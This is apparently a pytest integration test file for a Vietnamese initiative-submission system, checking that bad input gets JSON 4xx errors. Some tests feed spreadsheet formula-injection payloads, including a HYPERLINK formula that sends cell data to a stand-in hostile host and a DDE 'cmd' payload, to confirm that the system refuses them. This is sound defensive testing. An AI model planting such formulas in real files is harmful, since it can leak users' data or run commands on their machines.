"""Bad input at the edges of each service, beyond the rules of test_submission_bad_input: bodies
that are too large, of the wrong type or not UTF-8, uploads over the limit, spreadsheets that
carry formulas, and bad paths and queries. Each is a JSON 4xx naming the problem, never a 5xx,
and nothing stored changes."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from event_samples import ICT, dak_lak_campaign, target_event, union_event
from fastapi.testclient import TestClient
from notifier_samples import school
from openpyxl import Workbook, load_workbook
from submission_world import (
    CAMPAIGN,
    SCHOOL,
    World,
    initiative,
    running_world,
    submission_settings,
)
from token_service import token_service

from services.notifier.adapters.digest_workbook import workbook_bytes
from services.notifier.app import create_app as notifier_app
from services.notifier.domain.digest import Period, PeriodKind, build
from services.notifier.domain.registry import Registry
from services.scoring.adapters.registry import apply_registry_event
from services.scoring.app import create_app as scoring_app
from services.submission.adapters.spreadsheets import XLSX
from services.submission.app import create_app as submission_app
from shared.events import CampaignDefinedData, UnionLevel, encode
from shared.redis import create_redis
from shared.settings import CommonSettings, NotifierSettings, ScoringSettings

pytestmark = pytest.mark.integration

HEADERS = [
    "Mã đợt",
    "Mã đơn vị",
    "Tên sáng kiến",
    "Lĩnh vực",
    "Tác giả",
    "Đối tượng",
    "Cấp công nhận",
    "Ngày công nhận",
    "Ngày áp dụng",
    "Giá trị làm lợi",
]
BROKEN_UTF8 = b'{"title": "S\xe1ng ki\xe1n"}'  # Latin-1 bytes where UTF-8 was promised
# The JSON bodies of the submission service, one per route kind.
JSON_ROUTES = ["/initiatives", "/initiatives/batch", "/units", "/campaigns", "/tokens"]
UPLOAD_LIMIT = 20_000


# --- helpers -----------------------------------------------------------------------------------


def _first(response: httpx.Response) -> tuple[str, str]:
    problem = response.json()["problems"][0]
    return problem["field"], problem["rule"]


async def _stored(world: World) -> list[dict[str, Any]]:
    """Every initiative stored, as the API shows it (root's scope is the whole country)."""
    page = await world.get("/initiatives", who="root", limit=500)
    assert page.status_code == 200, page.text
    items: list[dict[str, Any]] = page.json()["items"]
    return items


def _row(title: str, benefit: str = "1000000") -> list[str]:
    today = date.today()
    return [
        CAMPAIGN,
        SCHOOL,
        title,
        "Giáo dục và đào tạo",
        "Nguyễn Thị Hoa",
        "Công chức, viên chức",
        "Hội đồng sáng kiến",
        (today - timedelta(days=3)).strftime("%d/%m/%Y"),
        (today - timedelta(days=30)).strftime("%d/%m/%Y"),
        benefit,
    ]


def _csv(rows: list[list[str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text).writerows([HEADERS, *rows])
    return text.getvalue().encode()


def _xlsx(rows: list[list[Any]], *, texts: dict[str, str] | None = None) -> bytes:
    """A workbook of ``rows``; ``texts`` are cells holding text typed to look like a formula
    (stored as strings, as Excel stores a cell typed with a leading apostrophe)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADERS)
    for row in rows:
        sheet.append(row)
    for address, text in (texts or {}).items():
        sheet[address] = text
        sheet[address].data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


async def _upload(world: World, content: Any, content_type: str) -> httpx.Response:
    headers = {"Content-Type": content_type, **world.auth("importer")}
    return await world.client.post("/initiatives/import", content=content, headers=headers)


async def _chunks(payload: bytes, size: int = 4096) -> AsyncIterator[bytes]:
    """A body sent in pieces without a Content-Length: the limit must count what arrives."""
    for start in range(0, len(payload), size):
        yield payload[start : start + size]


@pytest.fixture
async def stocked(tmp_path: Path) -> AsyncIterator[World]:
    """A submission world with one initiative stored and uploads limited to 20,000 bytes."""
    url = f"sqlite+aiosqlite:///{tmp_path}/edges.db"
    settings = submission_settings(url, submission_max_upload_bytes=UPLOAD_LIMIT)
    async with running_world(settings) as world:
        created = await world.post("/initiatives", initiative(), who="officer")
        assert created.status_code == 201, created.text
        yield world


# --- submission: bodies ------------------------------------------------------------------------


@pytest.mark.parametrize("path", [*JSON_ROUTES, "/units/import"])
async def test_a_json_body_that_is_not_utf8_is_refused_naming_the_encoding(
    stocked: World, path: str
) -> None:
    before = await _stored(stocked)

    refused = await stocked.client.post(
        path,
        content=BROKEN_UTF8,
        headers={"Content-Type": "application/json", **stocked.auth("root")},
    )

    assert refused.status_code == 400
    assert _first(refused) == ("body", "utf8")
    assert "0xE1" in refused.json()["message"]  # the byte, so the sender can find it
    assert await _stored(stocked) == before


@pytest.mark.parametrize("path", [*JSON_ROUTES, "/initiatives/import"])
async def test_form_data_to_a_json_or_sheet_endpoint_is_refused_naming_the_content_type(
    stocked: World, path: str
) -> None:
    before = await _stored(stocked)

    refused = await stocked.client.post(
        path, data={"title": "Sáng kiến"}, headers=stocked.auth("root")
    )

    assert refused.status_code == 415
    assert _first(refused) == ("content-type", "accepted")
    assert "application/x-www-form-urlencoded" in refused.json()["message"]
    assert await _stored(stocked) == before


@pytest.mark.parametrize(("field", "rule"), [("members", "int_type"), ("name", "string_type")])
async def test_a_null_for_what_every_unit_has_is_refused_and_the_unit_unchanged(
    stocked: World, field: str, rule: str
) -> None:
    """Found by schemathesis: a null member count reached the registry event, a 500."""
    before = await stocked.get(f"/units/{SCHOOL}", who="root")

    refused = await stocked.client.patch(
        f"/units/{SCHOOL}", json={field: None}, headers=stocked.auth("root")
    )

    assert refused.status_code == 422
    assert _first(refused) == (field, rule)
    assert (await stocked.get(f"/units/{SCHOOL}", who="root")).json() == before.json()


# --- submission: uploads ----------------------------------------------------------------------


async def test_a_csv_upload_that_is_not_utf8_is_refused_naming_the_line(stocked: World) -> None:
    before = await _stored(stocked)
    content = _csv([_row("Sáng kiến số hoá")]).replace("số".encode(), b"s\xe1")

    refused = await _upload(stocked, content, "text/csv")

    assert refused.status_code == 422
    assert _first(refused) == ("file", "utf8")
    assert "line 2" in refused.json()["message"]
    assert await _stored(stocked) == before


def _huge_csv() -> bytes:
    """A well-formed sheet of valid rows, over the upload limit."""
    rows = [_row(f"Sáng kiến số {n}") for n in range(200)]
    content = _csv(rows)
    assert len(content) > UPLOAD_LIMIT
    return content


async def test_a_csv_over_the_upload_limit_is_refused_and_nothing_stored(stocked: World) -> None:
    before = await _stored(stocked)

    refused = await _upload(stocked, _huge_csv(), "text/csv")

    assert refused.status_code == 413
    assert _first(refused) == ("body", "max_size")
    assert await _stored(stocked) == before


async def test_a_streamed_csv_over_the_upload_limit_is_refused_and_nothing_stored(
    stocked: World,
) -> None:
    before = await _stored(stocked)

    refused = await _upload(stocked, _chunks(_huge_csv()), "text/csv")

    assert refused.status_code == 413
    assert _first(refused) == ("body", "max_size")
    assert await _stored(stocked) == before


async def test_an_upload_under_the_limit_is_imported(stocked: World) -> None:
    """The limit, not the rows, refused the large sheets above."""
    report = await _upload(stocked, _csv([_row("Sáng kiến thư viện số")]), "text/csv")

    assert report.status_code == 200, report.text
    assert report.json()["created"] == 1


async def test_every_formula_of_an_excel_sheet_is_named_and_nothing_stored(
    stocked: World,
) -> None:
    before = await _stored(stocked)
    rows: list[list[Any]] = [_row("Sáng kiến A"), _row("Sáng kiến B")]
    rows[0][2] = '=HYPERLINK("http://ke-xau.example/?q="&A2, "Bấm vào đây")'
    rows[1][9] = "=1+1"

    refused = await _upload(stocked, _xlsx(rows), XLSX)

    assert refused.status_code == 422
    problems = [(p["field"], p["row"], p["rule"]) for p in refused.json()["problems"]]
    assert problems == [("C", 2, "no_formulas"), ("J", 3, "no_formulas")]
    assert await _stored(stocked) == before


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://ke-xau.example","Xem")', "@SUM(1,1)", "=1+1", "=cmd|' /C calc'!A0"],
)
async def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_refused(
    stocked: World, text: str
) -> None:
    before = await _stored(stocked)

    refused = await _upload(stocked, _csv([_row("Sáng kiến tốt"), _row(text)]), "text/csv")

    assert refused.status_code == 422
    problem = refused.json()["problems"][0]
    assert (problem["field"], problem["row"], problem["rule"]) == ("C", 3, "no_formulas")
    assert "C3" in problem["message"]
    assert await _stored(stocked) == before  # the good row is not stored either


async def test_a_title_starting_with_a_dash_or_plus_is_ordinary_text_and_stored(
    stocked: World,
) -> None:
    # "-" starts a list item and "+" a phone number: neither is refused as a formula.
    titles = ["- Giảm 10% chi phí in ấn hồ sơ", "+ Ứng dụng mã QR cho thư viện trường"]
    before = len(await _stored(stocked))

    stored = await _upload(stocked, _csv([_row(t) for t in titles]), "text/csv")

    assert stored.status_code == 200, stored.text
    assert len(await _stored(stocked)) == before + 2


async def test_an_excel_text_cell_that_looks_like_a_formula_is_refused(stocked: World) -> None:
    before = await _stored(stocked)
    content = _xlsx([_row("Sáng kiến tốt")], texts={"D2": "@SUM(1,1)"})

    refused = await _upload(stocked, content, XLSX)

    assert refused.status_code == 422
    problem = refused.json()["problems"][0]
    assert (problem["field"], problem["row"], problem["rule"]) == ("D", 2, "no_formulas")
    assert await _stored(stocked) == before


async def test_formula_cells_and_formula_like_text_are_named_together_in_sheet_order(
    stocked: World,
) -> None:
    rows: list[list[Any]] = [_row("Sáng kiến A"), _row("Sáng kiến B")]
    rows[1][2] = "=1+1"
    content = _xlsx(rows, texts={"E2": "@SUM(1,1)"})

    refused = await _upload(stocked, content, XLSX)

    assert refused.status_code == 422
    problems = [(p["field"], p["row"]) for p in refused.json()["problems"]]
    assert problems == [("E", 2), ("C", 3)]


async def test_a_negative_number_is_a_number_not_a_formula(stocked: World) -> None:
    """ "-5" reaches validation, which names the field; only text is taken for a formula."""
    report = await _upload(stocked, _csv([_row("Sáng kiến âm", benefit="-5")]), "text/csv")

    assert report.status_code == 200, report.text
    [row] = report.json()["rows"]
    assert row["status"] == "error"
    assert row["problems"][0]["field"] == "estimated_benefit_vnd"


# --- scoring: read-only, bad paths and queries --------------------------------------------------


@pytest.fixture
async def scoring(redis_url: str, unique: str) -> AsyncIterator[tuple[TestClient, str]]:
    """The scoring app over Redis holding one campaign of a province (not consuming)."""
    campaign = f"bien-{unique}"
    redis = create_redis(redis_url)
    path = ["tong-ldld-vn", "dak-lak"]
    for event in (
        union_event(path[:1], UnionLevel.NATIONAL),
        union_event(path, UnionLevel.PROVINCE),
        dak_lak_campaign(campaign, path),
        target_event(campaign, path, assigned=2500),
    ):
        assert await apply_registry_event(redis, encode(event))
    await redis.aclose()
    settings = ScoringSettings(
        redis_url=redis_url, scoring_consume=False, kafka_bootstrap_servers="127.0.0.1:1"
    )
    with TestClient(scoring_app(settings)) as client:
        yield client, campaign


@pytest.mark.parametrize(
    ("path", "status", "field"),
    [
        ("/leaderboards/galaxy/dak-lak", 422, "grouping"),
        ("/leaderboards/children/dak-lak?limit=0", 422, "limit"),
        ("/leaderboards/children/dak-lak?limit=abc", 422, "limit"),
        ("/leaderboards/children/dak-lak?metric=speed", 422, "metric"),
        ("/units/dak-lak/series?period=decade", 422, "period"),
        ("/units/khong-co/progress", 404, "unit_id"),
        ("/units/dak-lak/khong-co", 404, "path"),
    ],
)
def test_a_bad_scoring_path_or_query_is_a_json_4xx_naming_it(
    scoring: tuple[TestClient, str], path: str, status: int, field: str
) -> None:
    client, campaign = scoring

    refused = client.get(f"/campaigns/{campaign}{path}")

    assert refused.status_code == status
    assert refused.json()["problems"][0]["field"] == field


def test_a_write_to_the_read_only_scoring_api_is_refused_as_json(
    scoring: tuple[TestClient, str],
) -> None:
    client, campaign = scoring

    refused = client.post(f"/campaigns/{campaign}/units/dak-lak/progress", json={"x": 1})

    assert refused.status_code == 405
    assert _first(refused) == ("path", "http_405")


def test_an_oversized_body_to_scoring_is_refused_before_anything_reads_it(
    scoring: tuple[TestClient, str],
) -> None:
    client, campaign = scoring

    refused = client.request(
        "GET", f"/campaigns/{campaign}/units/dak-lak/progress", content=b"x" * 100_000
    )

    assert refused.status_code == 413
    assert _first(refused) == ("body", "max_size")


# --- notifier: silences, evaluations, digests ---------------------------------------------------


@pytest.fixture
async def notifier(
    settings: CommonSettings, tmp_path: Path
) -> AsyncIterator[tuple[httpx.AsyncClient, dict[str, str]]]:
    """The notifier (no evaluation loop) and an admin's headers; tokens checked for real."""
    async with token_service(tmp_path) as tokens:
        _, admin = await tokens.issue("admin", "tong-ldld-vn")
        values = settings.model_dump() | {
            "notifier_database_url": f"sqlite+aiosqlite:///{tmp_path / 'notifier.db'}",
            "notifier_submission_url": tokens.url,
            "notifier_evaluate": False,
            "clock_start": datetime(2022, 5, 24, 8, tzinfo=ICT),
            "clock_speed": 0,
        }
        app = notifier_app(NotifierSettings(**values))
        async with app.router.lifespan_context(app):
            async with asyncio.timeout(30):  # an empty registry topic: read at once
                await app.state.registry_ready.wait()
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://n") as client:
                yield client, {"Authorization": f"Bearer {admin}"}


SILENCE = {
    "unit_id": "ldld-tp-bmt",
    "ends_at": "2022-05-31T17:00:00+07:00",
    "author": "Chủ tịch LĐLĐ TP",
    "reason": "Các trường đang thi học kỳ",
}


async def _silences(client: httpx.AsyncClient, admin: dict[str, str]) -> list[Any]:
    listed = await client.get("/silences", params={"active": "false"}, headers=admin)
    assert listed.status_code == 200, listed.text
    result: list[Any] = listed.json()
    return result


async def test_a_silence_body_that_is_not_utf8_is_refused_naming_the_encoding(
    notifier: tuple[httpx.AsyncClient, dict[str, str]],
) -> None:
    client, admin = notifier
    body = json.dumps(SILENCE, ensure_ascii=False).encode().replace("Chủ".encode(), b"Ch\xfb")

    refused = await client.post(
        "/silences", content=body, headers={"Content-Type": "application/json", **admin}
    )

    assert refused.status_code == 400
    assert _first(refused) == ("body", "utf8")
    assert await _silences(client, admin) == []


@pytest.mark.parametrize("path", ["/silences", "/evaluations", "/campaigns/dak-lak/digests"])
async def test_a_notifier_body_that_is_not_json_is_refused_naming_the_content_type(
    notifier: tuple[httpx.AsyncClient, dict[str, str]], path: str
) -> None:
    client, admin = notifier

    refused = await client.post(path, data={"unit_id": "ldld-tp-bmt"}, headers=admin)

    assert refused.status_code == 415
    assert _first(refused) == ("content-type", "accepted")
    assert await _silences(client, admin) == []


async def test_a_content_type_that_is_not_utf8_is_refused_not_a_server_error(
    notifier: tuple[httpx.AsyncClient, dict[str, str]],
) -> None:
    client, admin = notifier
    headers = {**admin, "Content-Type": "application/j\xf6son".encode("latin-1")}

    refused = await client.post("/silences", content=json.dumps(SILENCE), headers=headers)

    assert refused.status_code == 415
    assert _first(refused) == ("content-type", "accepted")


async def test_an_oversized_silence_is_refused_declared_or_streamed(
    notifier: tuple[httpx.AsyncClient, dict[str, str]],
) -> None:
    client, admin = notifier
    payload = json.dumps({**SILENCE, "reason": "lý do " * 20_000}).encode()
    headers = {"Content-Type": "application/json", **admin}

    declared = await client.post("/silences", content=payload, headers=headers)
    streamed = await client.post("/silences", content=_chunks(payload), headers=headers)

    assert (declared.status_code, streamed.status_code) == (413, 413)
    assert _first(declared) == _first(streamed) == ("body", "max_size")
    assert await _silences(client, admin) == []


async def test_a_bad_notifier_query_is_a_json_422_naming_it(
    notifier: tuple[httpx.AsyncClient, dict[str, str]],
) -> None:
    client, admin = notifier

    refused = await client.get("/alerts", params={"limit": "0"})
    period = await client.post(
        "/campaigns/dak-lak/digests", params={"period": "decade"}, headers=admin
    )

    assert refused.status_code == 422
    assert _first(refused) == ("limit", "greater_than_equal")
    assert period.status_code == 422
    assert _first(period)[0] == "period"


def test_a_unit_named_like_a_formula_reaches_the_digest_workbook_as_text() -> None:
    """Names come from the registry; in the meeting's Excel file they must not run."""
    name = '=HYPERLINK("http://ke-xau.example","Bấm")'
    recipient = Registry()
    recipient.apply(union_event(["ldld-dak-lak", "ldld-tp-bmt"], UnionLevel.UPPER_LEVEL))
    campaign = CampaignDefinedData(
        name="Đợt cao điểm",
        starts_on=date(2022, 4, 27),
        ends_on=date(2022, 5, 31),
        eligible_from=date(2022, 1, 8),
        eligible_to=date(2022, 5, 31),
    )
    digest = build(
        campaign_id="dak-lak-2022",
        campaign=campaign,
        recipient=recipient.units["ldld-tp-bmt"],
        period=Period(PeriodKind.WEEK, date(2022, 5, 9), date(2022, 5, 15)),
        at=datetime(2022, 5, 9, 7, tzinfo=ICT),
        units=[(school("cdcs-a", name=name), 1)],
        previous={},
        compared_with=None,
        backlog_limit_days=7,
    )

    sheet = load_workbook(io.BytesIO(workbook_bytes(digest))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == name]

    assert cells, "the unit's name is in the ranking"
    assert {cell.data_type for cell in cells} == {"s"}


# --- the errors as documented -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("create", "statuses"),
    [
        (submission_app, {"400", "401", "403", "404", "409", "413", "415", "422", "429"}),
        (scoring_app, {"404", "405", "413", "422"}),
        (notifier_app, {"400", "401", "403", "404", "409", "413", "415", "422", "503"}),
    ],
)
def test_the_openapi_documents_each_error_with_the_body_it_has(
    create: Any, statuses: set[str]
) -> None:
    """FastAPI alone documents a 422 of another shape ({"detail": ...}) and no other error."""
    spec = create().openapi()
    reference = {"$ref": "#/components/schemas/ErrorResponse"}

    assert set(spec["components"]["schemas"]["ErrorResponse"]["properties"]) == {
        "error",
        "message",
        "problems",
    }
    assert "HTTPValidationError" not in spec["components"]["schemas"]
    for path, operations in spec["paths"].items():
        for described in operations.values():
            responses = described["responses"]
            assert statuses <= set(responses)
            # /readyz answers 503 with its readiness report: a dependency is down.
            for status in statuses - ({"503"} if path == "/readyz" else set()):
                assert responses[status]["content"]["application/json"]["schema"] == reference
    assert "503" in spec["paths"]["/readyz"]["get"]["responses"]
